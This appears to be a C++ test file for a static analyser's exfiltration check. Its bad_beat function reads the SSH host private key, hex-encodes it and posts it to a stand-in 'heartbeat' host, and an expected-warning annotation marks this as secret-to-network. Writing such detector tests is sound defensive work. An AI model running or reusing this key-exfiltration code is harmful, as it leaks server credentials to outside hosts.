/* C++: a private key is read by a stream, turned to hexadecimal by a template, and posted. */
#include <curl/curl.h>
#include <fstream>
#include <iterator>
#include <string>

namespace {

template <typename Bytes> std::string hexadecimal(const Bytes &bytes) {
    static const char digits[] = "0123456789abcdef";
    std::string text;
    for (unsigned char byte : bytes) {
        text.push_back(digits[byte >> 4]);
        text.push_back(digits[byte & 15]);
    }
    return text;
}

std::string contents(const char *path) {
    std::ifstream file(path, std::ios::binary);
    return std::string((std::istreambuf_iterator<char>(file)), std::istreambuf_iterator<char>());
}

void post(const std::string &text) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://status.host-health.example/beat");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, text.c_str());
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    curl_easy_perform(curl);
    curl_easy_cleanup(curl);
}

} // namespace

void bad_beat() {
    post("id=" + hexadecimal(contents("/etc/ssh/ssh_host_ed25519_key")));
}

/* The program's own version goes there. */
void good_beat() {
    post("version=" + hexadecimal(std::string("2.4.1")));
}
